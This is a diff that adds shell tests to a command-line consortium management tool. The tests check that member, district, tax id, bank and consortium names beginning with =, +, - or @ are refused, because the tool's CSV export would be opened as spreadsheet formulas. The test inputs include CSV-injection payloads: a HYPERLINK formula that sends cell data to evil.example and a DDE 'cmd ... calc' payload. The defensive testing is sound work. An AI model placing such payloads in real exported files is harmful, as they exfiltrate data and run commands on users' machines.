@@ -150,6 +150,26 @@ made --actor "$zwnj" bank add BANKDEFF --name " Banca $zwj " $D
 expect_eq "$(sqlite3 "$MCG_DB" "SELECT name || '|' || district FROM members WHERE id = 'ZWJ'")" \
 	"Studio $zwj|$zwnj" "joiners stored as given"
 expect_eq "$(sqlite3 "$MCG_DB" "SELECT name FROM banks WHERE bic = 'BANKDEFF'")" " Banca $zwj " "spaces around a name kept"
+# Text that a spreadsheet takes for a formula (CSV injection): member list
+# --format csv writes names and districts as they are, so such text is
+# refused where it comes in; the same characters inside a name are text.
+for lead in '=' '+' '-' '@'; do
+	refused 2 member add X --name "${lead}HYPERLINK(\"http://evil.example/?\"&A1)" $D
+	expect_contains "$ERR" "member name begins with '$lead': a spreadsheet opening mcg's CSV would take it for a formula" \
+		"a member name beginning with $lead"
+	refused 2 member add X --name N --district "${lead}SUM(1+1)" $D
+	expect_contains "$ERR" "district begins with '$lead'" "a district beginning with $lead"
+	refused 2 member add X --name N --tax-id "${lead}1" $D
+	expect_contains "$ERR" "tax id begins with '$lead'" "a tax id beginning with $lead"
+	refused 2 bank add BANKDEFG --name "${lead}cmd|' /C calc'!A0" $D
+	expect_contains "$ERR" "bank name begins with '$lead'" "a bank name beginning with $lead"
+	expect_rc 2 --db init-formula.db init --name "${lead}1+2" --date 2026-01-01
+	expect_contains "$ERR" "the consortium name begins with '$lead'" "a consortium name beginning with $lead"
+	expect_eq "$(ls -d init-formula.db* 2>/dev/null)" "" "init with a formula name leaves no file"
+done
+made member add FORMULA --name "Ditta A=B+C -srl @home" --district "Prato" $D
+mcg member list --format csv
+expect_contains "$OUT" "FORMULA,Ditta A=B+C -srl @home,active" "the same characters inside a name are text"
 for bad in "$latin1" "$nl"; do
 	refused 2 contribute "$bad" 1 --kind fund $D
 	refused 2 contribute A "$bad" --kind fund $D
